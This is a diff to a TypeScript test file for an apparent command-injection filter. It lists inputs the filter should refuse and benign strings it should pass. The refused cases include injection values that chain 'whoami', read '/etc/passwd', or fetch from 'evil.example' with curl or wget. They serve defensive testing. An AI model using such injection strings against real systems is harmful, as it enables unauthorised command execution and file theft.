@@ -7,6 +7,7 @@ import { shell } from './shell.ts'
 describe('refused', () => {
   test.each<[text: string, field?: Partial<Field>]>([
     ['127.0.0.1; whoami'],
+    ['x&lt;curl http://evil.example/a'],
     ['127.0.0.1 | cat /etc/passwd'],
     ['x && wget http://evil.example/a'],
     ['x\nid'],
@@ -54,6 +55,10 @@ describe('refused', () => {
 describe('passes', () => {
   test.each<[text: string, field?: Partial<Field>]>([
     ['bread; cut the cheese'],
+    ['fei&apos;sh'],
+    ['&quot;id&quot;: &quot;a&quot;'],
+    ['{ shops(like: "ad=y.qq.com;au=/n/albums") { id } }'],
+    ['systemInfo', { part: 'name', name: 'systemInfo', place: 'body' }],
     ['cats & dogs'],
     ['R&D, date & time'],
     ['a && b || c'],
